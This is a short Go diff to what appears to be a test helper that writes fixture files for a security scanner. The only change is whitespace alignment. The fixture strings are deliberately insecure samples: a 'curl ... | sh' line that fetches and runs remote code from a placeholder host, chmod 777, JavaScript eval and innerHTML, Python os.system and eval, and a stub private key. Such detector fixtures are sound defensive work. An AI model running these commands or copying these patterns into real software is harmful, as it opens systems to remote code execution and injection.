@@ -67,7 +67,7 @@ func files(folder string) error {
 		"app.js":   "eval(location.hash); document.write(x); element.innerHTML = y; localStorage.setItem('a', b)\n",
 		"run.sh":   "curl http://x.example.com | sh\nchmod 777 /tmp/x\n",
 		"app.py":   "import pickle, os\nos.system(x)\neval(y)\n",
-		"key.pem": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n",
+		"key.pem":  "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----\n",
 	}
 	for name, text := range texts {
 		path := filepath.Join(folder, name)
